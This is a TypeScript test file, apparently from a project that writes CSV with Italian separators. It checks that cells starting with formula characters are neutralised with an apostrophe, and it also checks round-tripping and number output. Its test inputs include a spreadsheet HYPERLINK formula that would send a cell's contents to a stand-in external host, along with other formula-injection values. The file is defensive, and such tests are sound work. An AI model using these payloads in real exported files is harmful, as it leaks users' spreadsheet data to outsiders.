// SPDX-License-Identifier: AGPL-3.0-or-later
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { writeCsv } from './csv.ts'

const italian = { separator: ';', decimal: ',' } as const
const cellOf = (words: string) => writeCsv([[words]], italian).slice(1, -2)

describe('a cell that a spreadsheet would take for a formula', () => {
  test.each([
    '=HYPERLINK("http://esempio.example?"&A1)',
    '+39 000 000 0001',
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u200b=1+1',
    '|calc',
    '%0A',
    '＝1+1',
    '－1',
  ])('becomes words: %j', (words) => {
    expect(cellOf(words)).toBe(`"'${words.replaceAll('"', '""')}"`)
  })

  test('whatever stands before and after it', () => {
    const sign = fc.constantFrom('=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠')
    const blanks = fc.string({ unit: fc.constantFrom(' ', '\t', '\n', '\u00a0', '\u200b', '\ufeff') })
    fc.assert(
      fc.property(blanks, sign, fc.string(), (before, first, after) => {
        expect(cellOf(`${before}${first}${after}`)).toMatch(/^"'/)
      }),
    )
  })
})

test('any cells come back as they were, the apostrophe apart', () => {
  fc.assert(
    fc.property(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1 }), (rows) => {
      const read = readCsv(writeCsv(rows, italian).slice(1))
      const bare = (table: string[][]) => table.map((row) => row.map((cell) => cell.replace(/^'/, '')))
      expect(bare(read)).toEqual(bare(rows))
    }),
  )
})

test('numbers are written as numbers, minus included', () => {
  expect(writeCsv([[-1.5, 1_000.126, 0]], italian)).toBe('\ufeff-1,5;1000,13;0\r\n')
})

/** RFC 4180, as a spreadsheet reads it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^;"\r\n]*))(;|\r\n)/g)) {
    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === ';') continue
    rows.push(row)
    row = []
  }
  return rows
}
